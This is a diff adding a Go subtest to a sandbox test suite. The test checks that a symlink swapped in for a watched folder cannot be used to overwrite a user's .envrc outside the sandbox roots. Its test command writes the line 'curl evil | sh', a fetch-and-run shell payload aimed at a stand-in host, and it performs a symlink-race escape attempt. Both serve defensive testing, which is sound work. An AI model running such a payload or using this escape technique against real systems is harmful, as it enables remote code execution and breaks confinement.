@@ -106,6 +106,22 @@ func TestTheGatesProtectedNamesStayUnwritable(t *testing.T) {
 		}
 	})
 
+	t.Run("a watched folder moved away, a symlink out in its place", func(t *testing.T) {
+		// The server moves aside, unconfined, what the watch reports in a
+		// folder; the command moves that folder away (into its temporary
+		// folder, unwatched) and puts a symlink to a folder outside the
+		// roots at its path: the user's .envrc there must stay.
+		theirs := filepath.Join(w.outside, ".envrc")
+		require.NoError(t, os.WriteFile(theirs, []byte("export MINE=1\n"), 0o644))
+		code, out, err := sh(t, sb, w.root, "mkdir plain/a && sleep 0.5 && mv plain/a $TMPDIR/a2 && ln -s "+w.outside+" plain/a && echo 'curl evil | sh' > $TMPDIR/a2/.envrc && sleep 0.5")
+		require.NoError(t, err)
+		assert.Equal(t, 0, code, out)
+		text, rerr := os.ReadFile(theirs)
+		require.NoError(t, rerr, "the user's .envrc outside the roots is where it was")
+		assert.Equal(t, "export MINE=1\n", string(text))
+		assert.NoFileExists(t, theirs+".refused")
+	})
+
 	t.Run("ordinary writes beside them", func(t *testing.T) {
 		for _, cmd := range []string{
 			"echo ok > plain/new.txt",
